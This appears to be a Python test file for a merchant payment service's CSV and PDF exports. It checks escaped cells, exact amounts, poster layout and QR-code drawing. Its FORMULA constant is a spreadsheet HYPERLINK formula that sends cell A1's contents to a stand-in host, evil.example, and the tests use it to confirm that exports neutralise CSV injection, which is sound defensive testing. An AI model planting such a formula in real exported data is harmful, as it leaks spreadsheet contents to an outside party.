"""CSV and PDF renderings: exact integers, neutralised text cells, A6 and A4 pages that read back."""

from __future__ import annotations

import csv
import io
from datetime import date

import segno
from pypdf import PdfReader

from audit.csv_safe import restore_cell
from merchant_reports import exports, statement
from merchant_reports.csv_files import payments_csv, statement_csv
from merchant_reports.periods import Month
from merchant_reports.poster import poster_pdf
from merchant_reports.statement_pdf import statement_pdf
from settlement.payments.service import PaymentService
from settlement.requests import service as requests
from tests.merchant_reports.support import Books, wib
from tests.settlement.ledger.support import quote_service, unique
from tests.support.factories import add_merchant
from webui.i18n import idr

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
POINTS_PER_MM = 72 / 25.4


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_payments_csv_neutralises_a_reference_and_keeps_exact_integers(db, clock):
    merchant_id = add_merchant(db.sessions)
    clock.now = wib(2026, 3, 2, 9)
    with db.sessions.begin() as session:
        request = requests.create(
            session,
            merchant_id=merchant_id,
            amount=25_000_00,
            reference=FORMULA,
            reusable=False,
            expires_at=None,
            now=clock.now,
        )
        quotes = quote_service(clock)
        quote = quotes.create(session, sell_asset="PI", buy_asset="IDR", sell_amount=20 * 10**7)
        requests.record_hosted_quote(
            session,
            quote_id=quote.id,
            merchant_id=merchant_id,
            amount=25_000_00,
            request_id=request.id,
            now=clock.now,
        )
        paid = PaymentService(quotes, clock=clock).create(
            session, pi_payment_id=unique("pi"), merchant_id=str(merchant_id), quote_id=quote.id
        )
    with db.sessions() as session:
        lines = exports.payments(session, merchant_id, date(2026, 3, 1), date(2026, 3, 31))
        assert exports.payments(session, merchant_id, date(2026, 3, 3), date(2026, 3, 31)) == []
    rows = read_csv(payments_csv(lines, "en", "https://msc.example"))
    header, [row] = rows[0], rows[1:]
    cell = dict(zip(header, row, strict=True))
    assert cell["Reference"] == "'" + FORMULA and restore_cell(cell["Reference"]) == FORMULA
    assert cell["Payment id"] == str(paid.id)
    assert cell["Amount (sen)"] == str(paid.idr_amount) and cell["Amount"] == idr(paid.idr_amount)
    assert cell["Pi paid (10^-7 Pi)"] == str(20 * 10**7)
    assert cell["Time (WIB)"] == "2026-03-02 09:00:00"
    assert cell["Check on the explorer"] == f"https://msc.example/explorer/payment/0x{'0' * 32}{paid.id.hex}"
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)


def test_statement_csv_neutralises_the_merchant_name_and_totals_match(db, clock, monkeypatch):
    merchant_id = add_merchant(db.sessions, name=FORMULA, kelurahan="@Taman")
    with db.sessions.begin() as session:
        books = Books(session, clock, str(merchant_id), monkeypatch)
        sale = books.at(wib(2026, 3, 5, 20)).sale()
        books.refund(sale, 500_00)
    with db.sessions() as session:
        st = statement.build(session, merchant_id, Month(2026, 3), wib(2026, 4, 1))
    rows = read_csv(statement_csv(st, "id", "https://msc.example/explorer"))
    assert ["Pedagang", "'" + FORMULA] in rows
    assert ["Kelurahan", "'@Taman"] in rows
    total = next(r for r in rows if r and r[0] == "Total" and len(r) == 12)
    assert total[1:3] == ["1", str(sale.idr_amount)]
    assert total[6] == "50000" and total[8] == "0" and total[10] == str(sale.idr_amount - 500_00)
    march5 = next(r for r in rows if r and r[0] == "2026-03-05")
    assert march5[2] == str(sale.idr_amount)
    assert not any(c.startswith(("=", "+", "@")) for r in rows for c in r)
    assert "https://msc.example/explorer" in rows[-1][0]


def test_poster_is_a6_with_name_kelurahan_instructions_and_the_link(tmp_path):
    url = "https://msc.example/pay/6f1c2d4e-0000-4000-8000-000000000001"
    for language, words in (("id", "Bayar dengan Pi"), ("en", "Pay with Pi")):
        reader = PdfReader(io.BytesIO(poster_pdf("Warung Bu Sri ☕", "Kartoharjo", url, language)))
        assert len(reader.pages) == 1
        page = reader.pages[0]
        assert round(float(page.mediabox.width) / POINTS_PER_MM) == 105
        assert round(float(page.mediabox.height) / POINTS_PER_MM) == 148
        text = page.extract_text()
        assert "Warung Bu Sri ☕" in text and "Kartoharjo" in text and words in text
        assert url in text.replace("\n", "")
        links = {annot.get_object()["/A"]["/URI"] for annot in page["/Annots"]}
        assert links == {url}
    assert "Pindai" in poster_text("id", url) or "pindai" in poster_text("id", url)


def test_a_long_name_keeps_everything_on_the_one_a6_sheet_above_the_link():
    url = "https://msc.example/pay/abc"
    name = "Warung Makan Sederhana Bu Sri dan Keluarga Besar Kartoharjo Cabang Pasar Besar Madiun " * 2
    page = PdfReader(io.BytesIO(poster_pdf(name.strip(), "Kartoharjo", url, "id"))).pages[0]
    text = page.extract_text()
    assert "Cabang Pasar" in text and "3. Setujui" in text
    # The last step is drawn above the link at the foot of the sheet (PDF y grows upwards).
    found: dict[str, float] = {}

    def visit(text_part, _cm, tm, _font, _size):
        for key in ("3. Setujui", "pindai", url):
            if key in text_part and key not in found:
                found[key] = tm[5]

    page.extract_text(visitor_text=visit)
    assert found["3. Setujui"] > found[url] + 8


def poster_text(language: str, url: str) -> str:
    return PdfReader(io.BytesIO(poster_pdf("A", "B", url, language))).pages[0].extract_text()


def test_poster_draws_every_dark_module_of_the_checkout_links_qr_code():
    url = "https://msc.example/pay/abc"
    content = (
        PdfReader(io.BytesIO(poster_pdf("A", "B", url, "en"))).pages[0].get_contents().get_data().decode()
    )
    dark_runs = 0
    for row in segno.make(url, error="m").matrix:
        previous = 0
        for value in row:
            dark_runs += bool(value) and not previous
            previous = value
    # One filled rectangle per run of dark modules, plus the white background square.
    assert content.count(" re f") == dark_runs + 1


def test_statement_pdf_shows_the_same_totals_in_both_languages(db, clock, monkeypatch):
    merchant_id = add_merchant(db.sessions, name="Bakso Pak Kumis")
    with db.sessions.begin() as session:
        books = Books(session, clock, str(merchant_id), monkeypatch)
        books.at(wib(2026, 3, 7, 11)).sale()
        books.at(wib(2026, 3, 8, 11)).sale()
    with db.sessions() as session:
        st = statement.build(session, merchant_id, Month(2026, 3), wib(2026, 4, 1))
    for language, title in (("id", "Laporan bulanan"), ("en", "Monthly statement")):
        reader = PdfReader(io.BytesIO(statement_pdf(st, language, "https://msc.example/explorer")))
        assert round(float(reader.pages[0].mediabox.width) / POINTS_PER_MM) == 210
        text = "\n".join(page.extract_text() for page in reader.pages)
        assert title in text and "Bakso Pak Kumis" in text and "2026-03" in text
        assert idr(st.gross) in text and idr(st.net) in text
        assert "2026-03-07" in text and "2026-03-08" in text and "2026-03-09" not in text
        assert "https://msc.example/explorer" in text.replace("\n", "")
